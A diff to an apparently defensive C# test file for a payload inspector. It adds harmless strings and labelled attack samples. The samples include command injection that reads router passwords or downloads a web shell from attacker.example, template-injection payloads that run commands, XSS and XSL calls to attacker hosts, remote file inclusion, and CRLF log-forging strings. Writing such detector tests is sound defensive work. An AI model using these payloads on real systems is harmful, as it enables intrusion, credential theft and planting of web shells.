@@ -200,6 +200,9 @@ public sealed class PayloadInspectorTests
         "<ol><li>Step 2: select &quot;Export&quot;</li></ol>",
         "/home/deck/.steam/steam/userdata/12778/730/local/cfg/autoexec.cfg",
         "/sys/class/thermal/thermal_zone3/temp",
+        "<http://localhost:1880/ui/#!/5> shows the flows",
+        "There's a video: <a href=\"https://www.youtube.com/watch?v=",
+        "{{ products | map: \"title\" | join: \", \" }}",
         "npm ERR! code ERESOLVE\nnpm ERR! ERESOLVE unable to resolve dependency tree\nnpm ERR! peer react@\">=16.8 <19\" from x@1.0.0",
     ];
 
@@ -449,6 +452,15 @@ public sealed class PayloadInspectorTests
         { "/sys/class", InspectionCategory.Lfi },
         { "{{ cycler.__init__.__globals__.os.popen('id').read() }}", InspectionCategory.Ssti },
         { "{{ _self.env.registerUndefinedFilterCallback('exec') }}", InspectionCategory.Ssti },
+        { "<img src=\"https://attacker.example/log?html=", InspectionCategory.Xss },
+        { "//evil.example/inc.php", InspectionCategory.Rfi },
+        { "10.0.0.1;nvram get http_passwd", InspectionCategory.Cmdi },
+        { "x -o /var/www/html/shell.php http://attacker.example/shell.txt", InspectionCategory.Cmdi },
+        { "{% assign x = 'id' %}{{ x | system }}", InspectionCategory.Ssti },
+        { "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?><item/>", InspectionCategory.Xxe },
+        { "sensor-1\nDec  5 12:00:00 gw-01 sshd[1]: Accepted password for root from 10.0.0.99", InspectionCategory.Crlf },
+        { "boiler\n<13>1 2026-12-05T12:00:00Z gw-01 auth - - - admin login ok", InspectionCategory.Crlf },
+        { "user\\r\\nBcc: victim@plant.example", InspectionCategory.Crlf },
     };
 
     [Theory]
